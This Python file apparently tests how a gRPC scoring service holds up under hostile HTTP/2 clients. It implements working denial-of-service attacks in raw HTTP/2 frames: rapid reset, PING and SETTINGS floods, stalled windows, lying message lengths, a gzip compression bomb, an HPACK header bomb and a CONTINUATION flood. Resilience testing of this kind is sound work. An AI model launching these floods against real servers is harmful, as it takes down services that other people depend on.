"""Peers that speak HTTP/2 by hand and mean harm; ``python hostile_peers.py ADDRESS KIND SECONDS``.

A process of its own, so that it takes no time from those who are measured beside it, and of the
standard library only, so that it begins at once. It reads the messages that it is to send as JSON, in
hexadecimal, says "ready" when it is at its worst, and at the end prints what it did.
"""

from __future__ import annotations

import gzip
import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress

SCORE = "/propense.v1.ScoringService/ScoreUser"
BATCH = "/propense.v1.ScoringService/BatchScoreUsers"
STREAM = "/propense.v1.ScoringService/StreamScores"
INGEST = "/propense.v1.EventService/IngestEvents"

Messages = Mapping[str, bytes]
"""What to send: to ``SCORE`` for one user, to ``BATCH`` for many, to ``STREAM`` for all."""
Did = dict[str, int]
Attack = Callable[[str, float, Messages], Did]

SETTLE_S = 2.5
"""How long a server may take to begin to stall."""
MOST_S = 10.0
"""How long those who hold something may take until they do."""

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
_INITIAL_WINDOW, _MAX_FRAME = 4, 16_384


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Give a frame of HTTP/2."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def headers(path: str, **more: str) -> bytes:
    """Give the headers of a call, in HPACK without any tables."""

    def text(value: str) -> bytes:
        assert len(value) < 127
        return bytes([len(value)]) + value.encode()

    fields = {"content-type": "application/grpc", "te": "trailers"}
    fields |= {name.replace("_", "-"): value for name, value in more.items()}
    own = b"\x83\x86\x04" + text(path) + b"\x01" + text("here")
    return own + b"".join(b"\x00" + text(name) + text(value) for name, value in fields.items())


def message(content: bytes, flag: int = 0, length: int | None = None) -> bytes:
    """Give a message as gRPC frames it, or one whose length lies."""
    return struct.pack(">BI", flag, len(content) if length is None else length) + content


class Connection:
    """One connection: takes what is sent to it as far as the server's windows go."""

    def __init__(self, address: str, window: int = 65_535) -> None:
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=10)
        settings = struct.pack(">HI", _INITIAL_WINDOW, window)
        self.socket.sendall(_PREFACE + frame(SETTINGS, 0, 0, settings))
        self._next = -1
        self._unread = b""
        self._room, self._first_room = 65_535, 65_535
        self._stream_room: dict[int, int] = {}

    def send(self, data: bytes) -> None:
        """Send frames; raises OSError if the server has hung up or does not read."""
        self.socket.sendall(data)

    def new_stream(self) -> int:
        """Give the number of a stream that was not there."""
        self._next += 2
        return self._next

    def call(self, path: str, content: bytes, **more: str) -> int:
        """Make a call of one short message."""
        stream = self.new_stream()
        begun = frame(HEADERS, END_HEADERS, stream, headers(path, **more))
        self.send(begun + frame(DATA, END_STREAM, stream, content))
        return stream

    def upload(self, stream: int, content: bytes, until: float) -> int:
        """Send data as the windows allow; give how much of it was taken."""
        sent = 0
        while sent < len(content) and time.monotonic() < until:
            room = min(self._room, self._stream_room.get(stream, self._first_room), _MAX_FRAME)
            if room <= 0:
                if not self.read(0.05):
                    break
                continue
            part = content[sent : sent + room]
            self.send(frame(DATA, 0, stream, part))
            sent += len(part)
            self._room -= len(part)
            self._stream_room[stream] = self._stream_room.get(stream, self._first_room) - len(part)
            self.read(0)
        return sent

    def read(self, patience_s: float) -> bool:
        """Read what there is; says whether there was anything."""
        if not select.select([self.socket], [], [], patience_s)[0]:
            return False
        more = self.socket.recv(1 << 16)
        if not more:
            raise ConnectionResetError("hung up")
        self._unread += more
        while len(self._unread) >= 9:
            length = int.from_bytes(self._unread[:3], "big")
            if len(self._unread) < 9 + length:
                break
            kind, flags = self._unread[3], self._unread[4]
            stream = int.from_bytes(self._unread[5:9], "big")
            self._take(kind, flags, stream, self._unread[9 : 9 + length])
            self._unread = self._unread[9 + length :]
        return True

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == WINDOW:
            more = int.from_bytes(payload, "big")
            if stream:
                before = self._stream_room.get(stream, self._first_room)
                self._stream_room[stream] = before + more
            else:
                self._room += more
        elif kind == SETTINGS and not flags & ACK:
            for place in range(0, len(payload), 6):
                name, value = struct.unpack_from(">HI", payload, place)
                if name == _INITIAL_WINDOW:
                    self._first_room = value
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            raise ConnectionResetError("told to go")


def connections(address: str, until: float, window: int = 65_535) -> Iterator[Connection]:
    """Connect again and again, as those do who are hung up on."""
    while time.monotonic() < until:
        with suppress(OSError):
            yield Connection(address, window)


def hold(held: list[Connection], seconds: float) -> None:
    """Answer pings, so that nobody is taken for dead, and nothing else."""
    until = ready(seconds)
    while time.monotonic() < until and held:
        for one in list(held):
            try:
                one.read(0.05 / len(held))
            except OSError:
                held.remove(one)


def ready(seconds: float) -> float:
    """Say so, and give when to end."""
    print("ready", flush=True)
    return time.monotonic() + seconds


def stalled_streams(address: str, seconds: float, messages: Messages) -> Did:
    """Streams and answers without a window to be sent in."""
    held = [Connection(address, window=0) for _ in range(8)]
    begun = 0
    for number in range(100):
        for one in held:
            path = STREAM if number % 2 else SCORE
            one.call(path, message(messages[path]))
            begun += 1
    time.sleep(SETTLE_S)
    hold(held, seconds)
    return {"begun": begun, "connections": len(held)}


def unread_answers(address: str, seconds: float, messages: Messages) -> Did:
    """Large answers to small questions, without a window to be sent in."""
    held = [Connection(address, window=0) for _ in range(4)]
    until, begun = time.monotonic() + MOST_S, 0
    while begun < 60 * len(held):
        for one in held:
            stream = one.new_stream()
            one.send(frame(HEADERS, END_HEADERS, stream, headers(BATCH)))
            one.upload(stream, message(messages[BATCH]), until)
            one.send(frame(DATA, END_STREAM, stream))
            one.read(0.002)
            begun += 1
    hold(held, seconds)
    return {"begun": begun, "connections": len(held)}


def stalled_uploads(address: str, seconds: float, messages: Messages) -> Did:
    """Large messages that are never sent whole."""
    held = [Connection(address) for _ in range(12)]
    until, sent = time.monotonic() + MOST_S, 0
    for one in held:
        one.read(1.0)
        stream = one.new_stream()
        one.send(frame(HEADERS, END_HEADERS, stream, headers(INGEST)))
        begun = message(b"\0" * (14 << 20), length=15 << 20)
        with suppress(OSError):
            sent += one.upload(stream, begun, min(until, time.monotonic() + 1.0))
    hold(held, seconds)
    return {"megabytes": sent >> 20}


def rapid_reset(address: str, seconds: float, messages: Messages) -> Did:
    """Calls that are begun and reset at once."""
    until = ready(seconds)
    begun = hung_up = 0
    for one in connections(address, until):
        with suppress(OSError):
            while time.monotonic() < until:
                flood = b""
                for _ in range(200):
                    stream = one.new_stream()
                    flood += frame(HEADERS, END_HEADERS, stream, headers(SCORE))
                    flood += frame(RESET, 0, stream, struct.pack(">I", 8))
                one.send(flood)
                begun += 200
        hung_up += 1
        one.socket.close()
        time.sleep(0.01)
    return {"begun": begun, "hung_up": hung_up}


def flood_of(kind: int, payload: bytes) -> Attack:
    """Make a flood of frames that are to be answered, none of whose answers are read."""

    def flood(address: str, seconds: float, messages: Messages) -> Did:
        until = ready(seconds)
        sent = blocked = 0
        for one in connections(address, until):
            one.socket.settimeout(0.5)
            with suppress(OSError):
                while time.monotonic() < until:
                    one.send(frame(kind, 0, 0, payload) * 1_000)
                    sent += 1_000
            blocked += 1
            one.socket.close()
            time.sleep(0.01)
        return {"sent": sent, "blocked": blocked}

    return flood


def oversize(address: str, seconds: float, messages: Messages) -> Did:
    """Messages beyond every limit: of a length that lies, and truly sent."""
    until = ready(seconds)
    calls = sent = 0
    for one in connections(address, until):
        with suppress(OSError):
            one.read(1.0)
            while time.monotonic() < until:
                for path in (SCORE, INGEST):
                    stream = one.new_stream()
                    one.send(frame(HEADERS, END_HEADERS, stream, headers(path)))
                    lie = 0xFFFF_FFFF if calls % 2 else 17 << 20
                    sent += one.upload(stream, message(b"\0" * (1 << 20), length=lie), until)
                    one.send(frame(RESET, 0, stream, struct.pack(">I", 8)))
                    calls += 1
        one.socket.close()
    return {"calls": calls, "megabytes": sent >> 20}


def compression_bomb(address: str, seconds: float, messages: Messages) -> Did:
    """Messages of a few hundred kilobytes that would be a hundred megabytes."""
    bomb = message(gzip.compress(b"\0" * (100 << 20), compresslevel=1), flag=1)
    until = ready(seconds)
    calls = 0
    for one in connections(address, until):
        with suppress(OSError):
            one.read(1.0)
            while time.monotonic() < until:
                stream = one.new_stream()
                begun = headers(INGEST, grpc_encoding="gzip") if calls % 2 else headers(INGEST)
                one.send(frame(HEADERS, END_HEADERS, stream, begun))
                one.upload(stream, bomb, until)
                one.send(frame(DATA, END_STREAM, stream))
                calls += 1
        one.socket.close()
    return {"calls": calls}


def header_bomb(address: str, seconds: float, messages: Messages) -> Did:
    """Headers of a few kilobytes that name one of four kilobytes again and again."""
    until = ready(seconds)
    # A literal that is put into the table of the connection, 3,968 bytes long; then its number, 62.
    large = b"\x40\x01x" + b"\x7f" + b"\x81\x1e" + b"v" * 3_968
    calls = 0
    for one in connections(address, until):
        with suppress(OSError):
            first = True
            while time.monotonic() < until:
                stream = one.new_stream()
                block = headers(SCORE) + (large if first else b"") + b"\xbe" * 8_000
                one.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
                one.read(0)
                first = False
                calls += 1
        one.socket.close()
    return {"calls": calls}


def endless_headers(address: str, seconds: float, messages: Messages) -> Did:
    """Headers that go on and never end."""
    until = ready(seconds)
    part = b"\x00\x01x\x7e" + b"v" * 126
    sent = 0
    for one in connections(address, until):
        with suppress(OSError):
            stream = one.new_stream()
            one.send(frame(HEADERS, 0, stream, headers(SCORE)))
            while time.monotonic() < until:
                one.send(frame(CONTINUATION, 0, stream, part * 100))
                sent += 1
        one.socket.close()
        time.sleep(0.01)
    return {"sent": sent}


KINDS: dict[str, Attack] = {
    "stalled streams": stalled_streams,
    "unread answers": unread_answers,
    "stalled uploads": stalled_uploads,
    "rapid reset": rapid_reset,
    "ping flood": flood_of(PING, b"\7" * 8),
    "settings flood": flood_of(SETTINGS, b""),
    "oversize": oversize,
    "compression bomb": compression_bomb,
    "header bomb": header_bomb,
    "endless headers": endless_headers,
}


if __name__ == "__main__":
    address, kind, seconds = sys.argv[1:]
    given = {path: bytes.fromhex(text) for path, text in json.load(sys.stdin).items()}
    print(json.dumps(KINDS[kind](address, float(seconds), given)))
